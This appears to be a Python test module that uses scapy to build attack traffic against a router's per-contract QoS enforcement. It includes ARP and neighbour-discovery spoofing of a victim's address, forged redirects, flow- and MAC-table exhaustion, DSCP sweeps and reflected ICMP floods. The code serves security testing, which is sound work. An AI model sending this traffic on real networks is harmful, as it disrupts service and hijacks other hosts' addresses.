# SPDX-License-Identifier: BSD-3-Clause
"""Attacks that look for a way around the contract: packets that only the kernel handles, keys that multiply a contract, tables that many
share, and answers of the router that leave with the sender's DSCP."""
import socket
import struct

from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import (ICMPv6EchoRequest, ICMPv6MLReport, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_Redirect, ICMPv6ND_RS,
                                ICMPv6NDOptDstLLAddr, ICMPv6NDOptSrcLLAddr, IPv6, IPv6ExtHdrFragment)
from scapy.layers.l2 import ARP, Ether

from attacks import (B, B6, CS6, DATA, DIP, EF, EVERYBODY, SIP, SPORT, USUAL, VICTIM, Attack, addresses_from, ports_from, tagged)

SIP6 = 22  # offset in a frame
LINK_LOCAL, LINK_LOCAL6 = "169.254.7.7", "fe80::bad"
OWN, OWN6 = ("10.2.0.254", "10.1.0.254"), ("2001:db8:2::fe", "2001:db8:1::fe")
LARGE = bytes(1300)


def udp(port, size=1000):
    return UDP(sport=1000, dport=port, chksum=0) / bytes(size)


# --- packets that only the kernel handles ---

def _link_local_source(a):
    return [a.four(src=f"169.254.{i}.7", tos=CS6) / udp(9) for i in range(1, 200)]


def _link_local_destination(a):
    return [a.four(dst=LINK_LOCAL, tos=CS6) / udp(9), a.six(dst=LINK_LOCAL6, tc=CS6) / udp(9),
            a.six(src=LINK_LOCAL6, tc=CS6) / udp(9)]


DISCOVERY = (lambda: ICMPv6ND_RS(), lambda: ICMPv6ND_RA(), lambda: ICMPv6ND_NS(tgt=B6), lambda: ICMPv6ND_NA(tgt=B6),
             lambda: ICMPv6ND_Redirect(tgt=B6, dst=B6))


def _discovery_to_the_core(a):
    return [a.six(src=source, hlim=255, tc=CS6) / kind() / LARGE for source in (a.me6, B6.replace("::1", "::7")) for kind in DISCOVERY]


def _link_local_of_homes(a):
    """Behind 200 members of a template."""
    return [tagged(bytes(a.four(src=LINK_LOCAL, tos=CS6) / udp(9)), 40, inner) for inner in range(1, 201)] + [
        tagged(bytes(a.six(src="2001:db8:40::7", hlim=255, tc=CS6) / kind() / LARGE), 40, inner) for inner in range(1, 41) for kind in DISCOVERY]


def _multicast_scopes(a):
    groups = [f"ff{flags}{scope:x}::{group}" for flags in (0, 3) for scope in range(1, 15) for group in ("1", "2", "5", "1:3", "1234")]
    return [a.ether(f"33:33:00:00:00:{i & 255:02x}") / IPv6(src=a.me6, dst=g, tc=CS6, hlim=64) / udp(5005, 500) for i, g in enumerate(groups)] + [
        a.ether("01:00:5e:01:02:03") / IP(src=a.me, dst=g, tos=CS6, ttl=64) / udp(5005, 500)
        for g in ("224.0.0.1", "224.0.0.251", "224.0.1.1", "232.1.2.3", "233.1.2.3", "239.1.2.3", "239.255.255.250")]


def _broadcasts(a):
    return [a.ether(to) / IP(src=a.me, dst=dst, tos=CS6) / udp(port, 500) for to in (None, EVERYBODY)
            for dst in (a.origin.address(255), "10.1.0.255", "10.2.255.255", "255.255.255.255", a.origin.address(0)) for port in (9, 67, 137)]


def _redirects(a):
    return [a.ether() / IPv6(src=source, dst=to, hlim=255, tc=CS6) / ICMPv6ND_Redirect(tgt=LINK_LOCAL6, dst=B6) /
            ICMPv6NDOptDstLLAddr(lladdr=a.mac) for source in (LINK_LOCAL6, a.gateway6.replace("fe", "7")) for to in (a.gateway6, *OWN6)] + [
        a.four(dst=to, src=a.gateway.replace("254", "7")) / ICMP(type=5, code=1, gw=a.me) / IP(src=to, dst=B) / UDP(sport=1, dport=2)
        for to in (a.gateway, *OWN)]


def _group_reports(a):
    """More groups than the kernel has joined."""
    return [a.ether("01:00:5e:00:00:16") / IP(src=a.me, dst="224.0.0.22", ttl=1, proto=2, tos=CS6) / struct.pack(
        ">BBHHHBBHI", 0x22, 0, 0, 0, 1, 4, 0, 0, 0xefff0000 + i) for i in range(250)] + [
        a.ether("33:33:00:00:00:16") / IPv6(src=LINK_LOCAL6, dst=f"ff02::1:{i:x}", hlim=1, tc=CS6) / ICMPv6MLReport(mladdr=f"ff02::1:{i:x}")
        for i in range(250)]


# --- keys that multiply a contract ---

def _inner_tags(a):
    """Only the outer tag is in a rule, which sells 2 Mbit/s."""
    frame = bytes(a.four(src="10.5.0.1") / udp(9))
    return [tagged(frame, 20, inner) for inner in range(1, 201)]


def _addresses(a):
    """61 addresses of the sender's subnet, to one port."""
    return list(a.many(a.four() / udp(5006), 61, SIP, addresses_from(a.origin.address(1))))


def _own_prefix(a):
    return list(a.many(a.four() / udp(5006), 253, SIP, addresses_from(a.origin.address(1))))


def _own_prefix6(a):
    """60,000 sources of the sender's /64."""
    frames = a.many(a.six() / UDP(sport=1000, dport=5006, chksum=1) / bytes(200), 60_000, SIP6,
                    addresses_from(a.origin.address6("1:0"), socket.AF_INET6), checksummed=False)
    return list(frames)


def _voice_flows(a):
    return list(a.many(a.four() / udp(5004, 160), 400, SPORT, ports_from(1024)))


def _contract_sources(a):
    """3,000 sources of IPv6, each a contract with a line of its own in the metrics."""
    return list(a.many(a.six() / UDP(sport=1000, dport=5006, chksum=1) / bytes(40), 3000, SIP6,
                       addresses_from(a.origin.address6("2:0"), socket.AF_INET6), checksummed=False))


def _neighbours_excess(a):
    """Of one contract, in the victim's class: OUT behind 2 Mbit/s of IN."""
    return [a.four() / udp(9)]


def _dscps(a):
    """Each DSCP, in case one survives."""
    return [f for dscp in range(64) for f in (a.four(tos=dscp << 2) / udp(9), a.six(tc=dscp << 2) / udp(9))]


def _pulses(a):
    """Within 10 Mbit/s: 1,200 packets of 46 bytes every 48 ms."""
    return [a.ether() / IP(src=a.me, dst=B) / UDP(sport=1000, dport=5008, chksum=0) / bytes(18)]


# --- tables that many share ---

def _flows_of_homes(a):
    """Each flow sends two packets, so that it keeps its entry; behind four tags that rules name."""
    frame = a.four(src="10.4.0.1") / UDP(sport=1, dport=4009, chksum=0) / bytes(20)
    return [tagged(f, 30, 1 + i % 4) for i, f in enumerate(a.many(frame, 60_000, SPORT, ports_from(1024))) for _ in (1, 2)]


def _flows_of_a_neighbour(a):
    frame = a.four() / UDP(sport=1, dport=4009, chksum=0) / bytes(20)
    return [f for f in a.many(frame, 60_000, SPORT, ports_from(1024)) for _ in (1, 2)]


def _answered_solicitations(a):
    """One MAC address that solicits from 4,095 addresses and answers the router's solicitations for them."""
    def both(host):
        address = a.origin.address6(host)
        yield a.ether() / IPv6(src=address, dst=a.gateway6, hlim=255) / ICMPv6ND_NS(tgt=a.gateway6) / ICMPv6NDOptSrcLLAddr(lladdr=a.mac)
        yield (a.ether() / IPv6(src=address, dst=a.gateway6, hlim=255) / ICMPv6ND_NA(tgt=address, R=0, S=1, O=1) /
               ICMPv6NDOptDstLLAddr(lladdr=a.mac))
    return [frame for i in range(4095) for frame in both(f"5:{i:x}")]


def _answered_requests(a):
    def arp(op, host):
        return Ether(src=a.mac, dst=a.router) / ARP(op=op, hwsrc=a.mac, psrc=a.origin.address(host), hwdst=a.router, pdst=a.gateway)
    return [arp(op, host) for host in range(2, 254) for op in (1, 2)]


def _claims(a):
    """The neighbour says that it has the victim's addresses."""
    four = [Ether(src=a.mac, dst=to) / ARP(op=op, hwsrc=a.mac, psrc=VICTIM, pdst=target)
            for to in (EVERYBODY, a.router) for op in (1, 2) for target in ("10.1.0.254", VICTIM)]
    return four + [a.ether() / IPv6(src="2001:db8:1::1", dst="2001:db8:1::fe", hlim=255) / ICMPv6ND_NA(tgt="2001:db8:1::1", S=s, O=1) /
                   ICMPv6NDOptDstLLAddr(lladdr=a.mac) for s in (0, 1)]


def _unknown_stations(a):
    """Packets to stations of the victim's link that do not exist."""
    return list(a.many(a.four() / DATA, 120, DIP, addresses_from("10.1.0.2")))


def _many_senders(a):
    """To the router's addresses, by 4,000 MAC addresses."""
    frame = bytes(a.four(dst=a.gateway, tos=CS6) / ICMP(id=7) / bytes(40))
    return [frame[:6] + struct.pack(">HI", 0x0200, 0x66000000 + i) + frame[12:] for i in range(4000)]


# --- answers of the router ---

def _echoes(a, sources, tos):
    return [a.four(src=source, dst=to, tos=tos) / ICMP(id=i) / LARGE for i in range(50) for source in sources for to in (*OWN, a.gateway)]


def _reflected_echoes(a):
    return _echoes(a, (B, "10.2.0.7"), CS6) + [
        a.six(src=B6, dst=to, tc=CS6) / ICMPv6EchoRequest(id=i) / LARGE for i in range(50) for to in (*OWN6, a.gateway6)]


def _reflected_voice(a):
    """Into the victim's line."""
    return _echoes(a, (VICTIM,), EF)


def _reflected_resets(a):
    return [a.four(src=source, dst=to, tos=CS6) / TCP(sport=sport, dport=port, flags=flags) for source in (B, "10.2.0.7", VICTIM)
            for to in (*OWN, a.gateway) for port in (179, 9464, 9) for flags in ("S", "A") for sport in range(1024, 1034)]


def _reflected_unreachables(a):
    return [a.four(src=source, dst=to, tos=CS6) / udp(port, 500) for source in (B, VICTIM) for to in (*OWN, a.gateway)
            for port in range(20000, 20050)]


def _reflected_errors(a):
    """TTL exceeded, no route, too big: reported to a source in the core."""
    return [a.four(src=B, dst="10.2.0.9", tos=CS6, ttl=1) / udp(9, 500), a.four(src=B, dst="203.0.113.9", tos=CS6) / udp(9, 500),
            a.four(src=B, dst="10.2.0.9", tos=CS6, flags="DF") / udp(9, 1440), a.six(src=B6, dst="2001:db8:2::9", tc=CS6, hlim=1) / udp(9, 500),
            a.six(src=B6, dst="2001:db8:ff::9", tc=CS6) / udp(9, 500)]


def _own_answers(a):
    """The sender's own address, so that no source check holds them back."""
    return _echoes(a, (a.me,), CS6)


def _errors_to_the_victims_link(a):
    return [a.six(hlim=1) / udp(9, 1192), a.four(ttl=1) / udp(9, 1192)]


def _own_fragments(a):
    return [a.four(dst=to, tos=CS6, flags=flags, frag=offset, id=i, proto=1) / bytes(1200) for i in range(200) for to in OWN
            for flags, offset in (("MF", 0), ("MF", 150))] + [
        a.six(dst=to, tc=CS6) / IPv6ExtHdrFragment(offset=offset, m=1, id=i, nh=58) / bytes(1200) for i in range(200) for to in OWN6
        for offset in (0, 150)]


def _link_local_to_the_router(a):
    return [a.six(src=source, dst=to, tc=CS6) / what for source in (LINK_LOCAL6, "fe80::1:2") for to in (*OWN6, a.gateway6, "fe80::1")
            for what in (ICMPv6EchoRequest() / LARGE, udp(9), TCP(sport=1, dport=179, flags="S"))]


BYPASSES = {
    "link-local source": Attack(_link_local_source),
    "link-local destination": Attack(_link_local_destination),
    "neighbour discovery to the core": Attack(_discovery_to_the_core),
    "link-local sources of homes": Attack(_link_local_of_homes, tagged=True),
    "multicast of each scope": Attack(_multicast_scopes),
    "broadcast": Attack(_broadcasts),
    "redirects": Attack(_redirects),
    "group reports": Attack(_group_reports),
    "inner tags": Attack(_inner_tags, tagged=True),
    "61 addresses": Attack(_addresses),
    "61 addresses of a neighbour": Attack(_addresses, by="n"),
    "a /24 of sources": Attack(_own_prefix),
    "60,000 sources of a /64": Attack(_own_prefix6),
    "400 voice flows": Attack(_voice_flows),
    "400 voice flows of a neighbour": Attack(_voice_flows, by="n"),
    "3,000 contract sources": Attack(_contract_sources),
    "a neighbour beyond its contract": Attack(_neighbours_excess, by="n"),
    "each DSCP": Attack(_dscps),
    "pulses of small packets": Attack(_pulses, burst=1200, rate=25_000),
    "first in the flow table": Attack(_flows_of_homes, by="n", tagged=True),
    "flows of a neighbour": Attack(_flows_of_a_neighbour, by="n"),
    "answered solicitations": Attack(_answered_solicitations, by="n", rate=4000, lead=12),
    "answered ARP requests": Attack(_answered_requests, by="n", rate=2000),
    "claims of the victim's address": Attack(_claims, by="n"),
    "unknown hosts beside the victim": Attack(_unknown_stations),
    "many MAC addresses": Attack(_many_senders),
    "reflected echoes": Attack(_reflected_echoes),
    "EF reflected to the victim": Attack(_reflected_voice),
    "reflected TCP resets": Attack(_reflected_resets),
    "reflected unreachables": Attack(_reflected_unreachables),
    "reflected ICMP errors": Attack(_reflected_errors),
    "echoes with CS6": Attack(_own_answers),
    "ICMP errors onto the victim's link": Attack(_errors_to_the_victims_link, by="n"),
    "fragments to the router": Attack(_own_fragments),
    "link-local to the router": Attack(_link_local_to_the_router),
}
ATTACKS = {**USUAL, **BYPASSES}
